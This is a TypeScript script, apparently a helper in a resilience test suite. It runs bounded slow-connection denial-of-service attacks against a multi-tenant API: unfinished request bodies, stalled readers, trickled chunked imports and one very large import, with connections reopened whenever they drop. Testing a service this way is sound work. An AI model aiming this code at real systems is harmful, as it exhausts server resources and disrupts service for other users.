// A program of its own that holds connections open in ways that no honest client does, until it is stopped. What it
// opens is bounded: it never sends more than its order says.
import { connect, type Socket } from 'node:net';
import { siteBody, tenantCount } from '../data/tenants.ts';

export interface AttackOrder {
  kind: 'unfinished bodies' | 'stalled readers' | 'trickling imports' | 'large import';
  origin: string;
  key: string;
  /** A session of the same tenant. */
  cookie: string;
}

const { kind, origin, key, cookie }: AttackOrder = JSON.parse(process.argv[2]!);
const { hostname, port, host } = new URL(origin);
const byKey = `ApiKey: ${key}`;
const bySession = `Cookie: ${cookie}\r\nOrigin: ${origin}`;

/** Opens a connection, and opens it again when the service closes it. */
function hold(start: (socket: Socket) => void): void {
  const socket = connect({ host: hostname, port: Number(port) });
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(() => hold(start), 100));
  socket.on('connect', () => start(socket));
}

function holdMany(count: number, start: (socket: Socket) => void): void {
  for (let connection = 0; connection < count; connection++) hold(start);
}

function head(requestLine: string, credential: string, ...headers: string[]): string {
  return [`${requestLine} HTTP/1.1`, `Host: ${host}`, credential, ...headers, '', ''].join('\r\n');
}

const lines = 'Content-Type: application/x-ndjson';
const makeLine = (number: number) =>
  `${JSON.stringify({ type: 'site', data: siteBody(number * tenantCount) })}\n`;
const toChunk = (text: string) => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n`;

function sendUnfinishedBody(credential: string, path: string) {
  const unfinished = ['Content-Type: application/json', 'Content-Length: 100'];
  return (socket: Socket) => {
    socket.resume();
    socket.write(`${head(`POST ${path}`, credential, ...unfinished)}{`);
    // A refusal leaves the connection open; the next try needs another one.
    socket.on('data', () => socket.destroySoon());
  };
}

function readNothing(socket: Socket): void {
  socket.pause();
  socket.write(head('GET /api/v1/customers?limit=500', byKey));
}

function trickle(socket: Socket): void {
  socket.resume();
  socket.write(head('POST /api/v1/import', byKey, lines, 'Transfer-Encoding: chunked'));
  const timer = setInterval(() => socket.write(toChunk(makeLine(0))), 1000);
  socket.on('close', () => clearInterval(timer));
}

const largeImportLines = 100_000;

function importAll(socket: Socket): void {
  socket.resume();
  socket.write(head('POST /api/v1/import?mode=all-or-nothing', byKey, lines, 'Transfer-Encoding: chunked'));
  let sent = 0;
  const send = () => {
    while (sent < largeImportLines && socket.writable) {
      if (!socket.write(toChunk(makeLine(sent++)))) return;
    }
  };
  socket.on('drain', send);
  send();
}

if (kind === 'unfinished bodies') {
  holdMany(500, sendUnfinishedBody(byKey, '/api/v1/customer'));
  holdMany(500, sendUnfinishedBody(bySession, '/app/customer'));
} else if (kind === 'stalled readers') holdMany(40, readNothing);
else if (kind === 'trickling imports') holdMany(4, trickle);
else holdMany(1, importAll);

process.on('disconnect', () => process.exit());
